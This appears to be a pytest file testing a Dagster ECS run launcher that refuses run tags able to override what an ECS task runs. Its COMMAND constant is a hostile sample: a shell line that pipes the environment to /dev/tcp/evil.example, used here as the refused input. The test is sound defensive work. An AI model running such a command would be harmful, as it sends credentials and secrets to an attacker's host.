"""The image's ECS run launcher, configured from the rendered dagster.yaml, against the emulated ECS.

The real EcsRunLauncher (dagster-aws) in its subclass GuardedEcsRunLauncher, on a real Dagster
instance (a temporary one), calls the emulator over HTTP: it starts each run from the
``<project>-run`` task definition the ecs stage registered (it registers none), in the configured
cluster and network, and refuses the run tags that would change what the task runs.
"""

from __future__ import annotations

import json

import boto3
import pytest
import yaml
from dagster._core.code_pointer import ModuleCodePointer
from dagster._core.instance_for_test import instance_for_test
from dagster._core.launcher import LaunchRunContext
from dagster._core.origin import JobPythonOrigin, RepositoryPythonOrigin
from dagster._core.test_utils import create_run_for_test
from dagster_aws.ecs import EcsRunLauncher
from dagster_ecs_container.config import render, template, values
from dagster_ecs_container.launcher import GuardedEcsRunLauncher, RunTagRefused, refused_tags
from dagster_ecs_container.settings import Settings
from support.emulator import OFFLINE_CREDENTIALS, spawn_emulator

PROJECT = "dagster-ecs"
IMAGE = "123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/dagster-ecs:0.1.0"
COMMAND = '{"command": ["sh", "-c", "env > /dev/tcp/evil.example/80"]}'


@pytest.fixture(scope="module")
def ecs(tmp_path_factory):
    """A fresh emulator with the cluster and the run task definition the ecs stage registers."""
    emulator = spawn_emulator(tmp_path_factory.mktemp("emulator"))
    try:
        session = boto3.session.Session(
            region_name="ap-southeast-2",
            aws_access_key_id=OFFLINE_CREDENTIALS["AWS_ACCESS_KEY_ID"],
            aws_secret_access_key=OFFLINE_CREDENTIALS["AWS_SECRET_ACCESS_KEY"],
        )
        ec2 = session.client("ec2", endpoint_url=emulator.endpoint)
        vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
        ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})  # as the network stage's VPC
        subnets = [
            ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.9.{n}.0/24", AvailabilityZone=f"ap-southeast-2{az}")["Subnet"][
                "SubnetId"
            ]
            for n, az in ((1, "a"), (2, "b"))
        ]
        group = ec2.create_security_group(GroupName="tasks", Description="tasks", VpcId=vpc)["GroupId"]
        client = session.client("ecs", endpoint_url=emulator.endpoint)
        client.create_cluster(clusterName=PROJECT)
        arn = client.register_task_definition(
            family=f"{PROJECT}-run",
            networkMode="awsvpc",
            requiresCompatibilities=["FARGATE"],
            cpu="256",
            memory="512",
            containerDefinitions=[{"name": "run", "image": IMAGE, "essential": True}],
        )["taskDefinition"]["taskDefinitionArn"]
        yield client, emulator.endpoint, arn, subnets, group
    finally:
        emulator.stop()


@pytest.fixture
def environment(ecs, monkeypatch, tmp_path):
    """The daemon task's environment as the ecs stage sets it, the SDK pointed at the emulator."""
    _, endpoint, arn, subnets, group = ecs
    env = {
        **OFFLINE_CREDENTIALS,
        "AWS_ENDPOINT_URL": endpoint,
        "DAGSTER_APP_DIR": str(tmp_path),
        "DAGSTER_RUN_LAUNCHER": "ecs",
        "DAGSTER_ECS_CLUSTER": PROJECT,
        "DAGSTER_ECS_RUN_TASK_DEFINITION": arn,
        "DAGSTER_ECS_RUN_SUBNETS": ",".join(subnets),
        "DAGSTER_ECS_RUN_SECURITY_GROUPS": group,
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return env


def launcher_section(env) -> dict:
    rendered = render(template("dagster.yaml"), values(Settings.from_env(env)))
    return yaml.safe_load(rendered)["run_launcher"]


@pytest.fixture
def instance(environment):
    """A real (temporary) Dagster instance whose run launcher is the image's, as dagster.yaml configures it."""
    with instance_for_test(overrides={"run_launcher": launcher_section(environment)}) as instance:
        yield instance


ORIGIN = JobPythonOrigin(
    "orders_job",
    RepositoryPythonOrigin(
        executable_path="/opt/dagster/venv/bin/python",
        code_pointer=ModuleCodePointer("definitions", "defs", "/opt/dagster/.dags.versions/0123456789abcdef"),
        container_image=IMAGE,
    ),
)


def launch(instance, tags):
    run = create_run_for_test(instance, job_name="orders_job", job_code_origin=ORIGIN, tags=tags)
    instance.run_launcher.launch_run(LaunchRunContext(dagster_run=run, workspace=None))
    return instance.get_run_by_id(run.run_id)


def test_the_image_configures_the_guarded_launcher_with_the_run_task_definition(instance, ecs):
    launcher = instance.run_launcher
    assert type(launcher) is GuardedEcsRunLauncher and isinstance(launcher, EcsRunLauncher)
    assert launcher.task_definition == ecs[2] and launcher.container_name == "run"
    assert not launcher.use_current_ecs_task_config


def test_a_run_starts_its_own_task_from_the_run_task_definition(instance, ecs):
    client, _, arn, subnets, _ = ecs
    run = launch(instance, {"team": "data"})
    task = client.describe_tasks(cluster=PROJECT, tasks=[run.tags["ecs/task_arn"]], include=["TAGS"])["tasks"][0]
    assert task["taskDefinitionArn"] == arn  # nothing registered at run time
    assert client.list_task_definitions(familyPrefix=f"{PROJECT}-run")["taskDefinitionArns"] == [arn]
    override = task["overrides"]["containerOverrides"][0]
    assert override["name"] == "run"
    command = " ".join(override["command"])
    assert "dagster api execute_run" in command
    assert "0123456789abcdef" in command  # the DAG version the run was launched with (the entrypoint syncs it)
    tags = {t["key"]: t["value"] for t in task["tags"]}
    assert tags["dagster/run_id"] == run.run_id
    attachment = {d["name"]: d["value"] for d in task["attachments"][0]["details"]}
    assert attachment["subnetId"] in subnets


def test_a_runs_size_tags_size_its_task(instance, ecs):
    client = ecs[0]
    run = launch(instance, {"ecs/cpu": "1024", "ecs/memory": "4096"})
    task = client.describe_tasks(cluster=PROJECT, tasks=[run.tags["ecs/task_arn"]], include=["TAGS"])["tasks"][0]
    assert (task["overrides"]["cpu"], task["overrides"]["memory"]) == ("1024", "4096")


@pytest.mark.parametrize(
    "tag",
    ["ecs/container_overrides", "ecs/task_overrides", "ecs/run_task_kwargs", "ecs/ephemeral_storage", "ecs/task_arn"],
)
def test_a_run_tag_that_changes_the_task_is_refused_and_starts_nothing(instance, ecs, tag):
    client = ecs[0]
    before = client.list_tasks(cluster=PROJECT)["taskArns"]
    with pytest.raises(RunTagRefused, match=rf"{tag} refused.*ecs/cpu, ecs/memory"):
        launch(instance, {tag: COMMAND})
    assert client.list_tasks(cluster=PROJECT)["taskArns"] == before


def test_the_launchers_own_tags_pass_on_a_resumed_run_only():
    own = {"ecs/task_arn": "arn:aws:ecs:ap-southeast-2:123456789012:task/dagster-ecs/abc", "ecs/cluster": PROJECT}
    assert refused_tags(own, resumed=True) == []
    assert refused_tags(own) == ["ecs/cluster", "ecs/task_arn"]
    assert refused_tags({**own, "ecs/run_task_kwargs": "{}"}, resumed=True) == ["ecs/run_task_kwargs"]
    assert refused_tags({"ecs/cpu": "1", "ecs/memory": "2", "dagster/priority": "5"}) == []


def test_the_rendered_network_is_the_services(environment, ecs):
    *_, subnets, group = ecs
    kwargs = launcher_section(environment)["config"]["run_task_kwargs"]
    assert kwargs["cluster"] == PROJECT and kwargs["launchType"] == "FARGATE"
    assert kwargs["networkConfiguration"]["awsvpcConfiguration"] == {
        "subnets": subnets,
        "securityGroups": [group],
        "assignPublicIp": "ENABLED",
    }
    assert json.loads(json.dumps(kwargs)) == kwargs
